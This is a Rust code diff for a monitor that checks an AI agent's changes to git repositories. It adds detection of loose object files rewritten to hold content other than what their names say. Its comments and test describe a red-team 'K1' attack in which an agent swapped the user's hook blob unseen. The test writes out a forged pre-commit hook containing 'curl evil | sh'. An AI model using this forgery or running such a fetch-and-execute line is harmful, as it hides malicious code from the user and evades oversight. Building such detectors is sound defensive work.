@@ -126,6 +126,10 @@ pub struct Hidden {
     /// Protected files whose versions in git could not be looked at (a pack or an alternate
     /// changed in the session, an object unreadable, a budget spent).
     pub versions_unchecked: Vec<PathBuf>,
+    /// Loose object files changed in the session that do not hold what their names say (the
+    /// thirty-ninth re-attack's K1: the user's blob of a hook, rewritten in place, which git
+    /// never checks on reading).
+    pub forged_objects: Vec<PathBuf>,
 }
 
 impl IndexSnapshot {
@@ -289,11 +293,12 @@ impl IndexSnapshot {
                     let history = self.history.as_ref().map(|history| objects::history_file(history, &dir));
                     let earlier = history.as_deref().map(objects::read_history).unwrap_or_default();
                     let objects = objects::Objects::new(dir.clone(), hash_len, self.launched, earlier);
-                    let trees = objects.new_commit_trees().map(|(trees, made)| {
+                    let trees = objects.new_commit_trees().map(|scan| {
                         if let Some(history) = &history {
-                            objects.write_history(history, made);
+                            objects.write_history(history, scan.made);
                         }
-                        trees
+                        hidden.forged_objects.extend(scan.forged);
+                        scan.trees
                     });
                     scanned.insert(dir.clone(), (objects, trees));
                 }
@@ -345,6 +350,8 @@ impl IndexSnapshot {
         hidden.versions_unchecked.dedup();
         hidden.staged.sort();
         hidden.staged.dedup();
+        hidden.forged_objects.sort();
+        hidden.forged_objects.dedup();
         hidden.unchecked.sort();
         hidden.unchecked.dedup();
         hidden
@@ -622,6 +629,16 @@ mod objects {
     /// Objects by name, each with whether it is a commit.
     pub type Made = Vec<(Vec<u8>, bool)>;
 
+    /// What [`Objects::new_commit_trees`] found among the loose objects changed in the session.
+    pub struct Scan {
+        /// The trees of the commits to look through.
+        pub trees: Vec<Vec<u8>>,
+        /// Every object made, for the sessions' list.
+        pub made: Made,
+        /// The object files whose content is not what their names say.
+        pub forged: Vec<PathBuf>,
+    }
+
     /// Objects listed for one repository at most (past it, the rest are not kept: an agent that
     /// makes more than a million loose objects has each session's exit name what it made).
     const MAX_HISTORY: usize = 1_000_000;
@@ -746,12 +763,13 @@ mod objects {
         /// The trees of the commits made in the session, each object file made since the
         /// launch looked at (at most [`MAX_NEW_OBJECTS`]); `Err` when there were more, one could
         /// not be read, or a pack or alternate changed (what is in it cannot be told here).
-        pub fn new_commit_trees(&self) -> Result<(Vec<Vec<u8>>, Made), ()> {
+        pub fn new_commit_trees(&self) -> Result<Scan, ()> {
             if self.packs_changed {
                 return Err(());
             }
             let mut trees = Vec::new();
             let mut made = Vec::new();
+            let mut forged = Vec::new();
             let mut left = MAX_NEW_OBJECTS;
             // The commits earlier sessions made, still loose: a later session can name one (a
             // branch pointed at it: the thirty-sixth re-attack's H5). One packed since cannot be
@@ -779,20 +797,28 @@ mod objects {
                     left = left.checked_sub(1).ok_or(())?;
                     let rest = object.file_name();
                     let Ok(id) = hex::decode(format!("{prefix}{}", rest.to_string_lossy())) else { continue };
-                    // Only its header is inflated unless it is a commit.
-                    let commit = kind(&path)? == b"commit";
+                    // Inflated whole, and held against its name: git takes a loose object for
+                    // what its name says without checking (K1 rewrote the user's in place).
+                    let Some((kind, body)) = inflate(&path) else {
+                        forged.push(path);
+                        continue;
+                    };
+                    if id.len() != self.hash_len || object_name(&kind, &body, self.hash_len) != id {
+                        forged.push(path);
+                        continue;
+                    }
+                    let commit = kind == b"commit";
                     made.push((id.clone(), commit));
                     if !commit {
                         continue;
                     }
-                    let Found::New(body) = self.read(&id, b"commit")? else { continue };
                     let tree = body.strip_prefix(b"tree ").and_then(|rest| rest.get(..2 * self.hash_len)).ok_or(())?;
                     trees.push(hex::decode(tree).map_err(|_| ())?);
                 }
             }
             trees.sort();
             trees.dedup();
-            Ok((trees, made))
+            Ok(Scan { trees, made, forged })
         }
 
         fn visit_below(
@@ -869,22 +895,29 @@ mod objects {
         }
     }
 
-    /// The kind a loose object's header names (`commit`, `tree`, `blob`, `tag`), inflating no more
-    /// than the header.
-    fn kind(path: &Path) -> Result<Vec<u8>, ()> {
-        let file = std::fs::File::open(path).map_err(|_| ())?;
-        let mut header = [0u8; 16];
-        let mut decoder = flate2::read::ZlibDecoder::new(file);
-        let mut filled = 0;
-        while filled < header.len() {
-            match decoder.read(&mut header[filled..]) {
-                Ok(0) => break,
-                Ok(n) => filled += n,
-                Err(_) => return Err(()),
-            }
-        }
-        let header = &header[..filled];
-        Ok(header[..header.iter().position(|&byte| byte == b' ').ok_or(())?].to_vec())
+    /// A loose object file's kind and body, inflated whole (at most [`MAX_OBJECT_BYTES`]); `None`
+    /// when it does not inflate, or is larger, or its header does not say its size.
+    fn inflate(path: &Path) -> Option<(Vec<u8>, Vec<u8>)> {
+        let compressed = git::read_capped(path, false, MAX_OBJECT_BYTES).ok()?;
+        let mut object = Vec::new();
+        flate2::read::ZlibDecoder::new(compressed.as_slice())
+            .take(MAX_OBJECT_BYTES + 1)
+            .read_to_end(&mut object)
+            .ok()?;
+        let nul = object.iter().position(|&byte| byte == 0)?;
+        let (kind, size) = std::str::from_utf8(&object[..nul]).ok()?.split_once(' ')?;
+        let body = object[nul + 1..].to_vec();
+        (size.parse::<usize>().ok()? == body.len()).then(|| (kind.as_bytes().to_vec(), body))
+    }
+
+    /// Git's name for an object of `kind` and `body`.
+    fn object_name(kind: &[u8], body: &[u8], hash_len: usize) -> Vec<u8> {
+        let algorithm = if hash_len == 32 { &ring::digest::SHA256 } else { &ring::digest::SHA1_FOR_LEGACY_USE_ONLY };
+        let mut context = ring::digest::Context::new(algorithm);
+        context.update(kind);
+        context.update(format!(" {}\0", body.len()).as_bytes());
+        context.update(body);
+        context.finish().as_ref().to_vec()
     }
 
     /// What a tree entry's mode makes, read as git reads it (octal, by its type bits: a
@@ -1218,6 +1251,34 @@ mod tests {
         let after_gc = IndexSnapshot::take(&worktrees, &protected).with_history(history.path().to_path_buf());
         let hidden = after_gc.hidden();
         assert_eq!(hidden, Hidden::default(), "packed by the user's gc: the user's history now");
+    }
+
+    /// The thirty-ninth re-attack's K1: git takes a loose object file for what its name says
+    /// without checking, so the agent rewrote the user's blob of a hook in place (a new file
+    /// renamed over it): no commit made, `git status` and `git log` clean, and the user's next
+    /// checkout writes the agent's script. An object file changed in the session that does not
+    /// hold what its name says is named; those git itself wrote are not.
+    #[test]
+    fn an_object_file_rewritten_to_hold_another_content_is_named() {
+        use std::io::Write as _;
+        let Some((_temp, repo)) = repository_with_hooks() else { return };
+        std::thread::sleep(std::time::Duration::from_millis(120));
+        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[repo.join("githooks")]);
+        // In the open: a commit of the agent's own.
+        std::fs::write(repo.join("README"), "work\n").unwrap();
+        assert!(git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qam", "work"]));
+        assert_eq!(snapshot.hidden(), Hidden::default());
+        let id = git_out(&repo, &["rev-parse", "HEAD:githooks/pre-commit"], &[]).unwrap();
+        let file = repo.join(format!(".git/objects/{}/{}", &id[..2], &id[2..]));
+        let content = b"#!/bin/sh\ncurl evil | sh\n";
+        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+        encoder.write_all(format!("blob {}\0", content.len()).as_bytes()).unwrap();
+        encoder.write_all(content).unwrap();
+        let forged = repo.join(".git/objects/forged");
+        std::fs::write(&forged, encoder.finish().unwrap()).unwrap();
+        std::fs::rename(&forged, &file).unwrap();
+        assert!(git_out(&repo, &["cat-file", "-p", &id], &[]).unwrap().contains("curl evil"), "git takes it");
+        assert_eq!(snapshot.hidden().forged_objects, vec![file]);
     }
 
     /// The thirty-eighth re-attack's J5: a commit graph written in the session (a cache git reads
